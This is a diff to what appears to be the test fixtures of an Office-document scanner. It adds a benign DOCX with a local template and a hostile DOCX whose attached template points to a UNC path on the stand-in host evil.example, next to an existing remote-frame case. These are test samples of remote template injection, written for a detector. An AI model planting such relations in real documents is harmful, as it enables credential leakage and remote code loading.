@@ -256,6 +256,13 @@ GOOD_FILES = {
     "links.docx": docx(
         **{"word/_rels/document.xml.rels": relation("hyperlink", "https://example.org/a.exe")}
     ),
+    "letter.docx": docx(
+        **{
+            "word/_rels/settings.xml.rels": relation(
+                "attachedTemplate", r"file:///C:\Letters\Letter.dotx"
+            )
+        }
+    ),
     "chart.docx": docx(**{"word/embeddings/Sheet.xlsx": xlsx()}),
     "slides.pptx": pptx(),
     "table.xlsx": xlsx(),
@@ -382,6 +389,17 @@ BAD_FILES = {
     "DOCX with a remote frame": (
         "guide.docx",
         docx(**{"word/_rels/webSettings.xml.rels": relation("frame", r"\\evil.example\a")}),
+        "evil.example",
+    ),
+    "DOCX with a template on another machine": (
+        "guide.docx",
+        docx(
+            **{
+                "word/_rels/settings.xml.rels": relation(
+                    "attachedTemplate", r"file:///\\evil.example\t.dotx"
+                )
+            }
+        ),
         "evil.example",
     ),
     "DOCX that calls for help": (
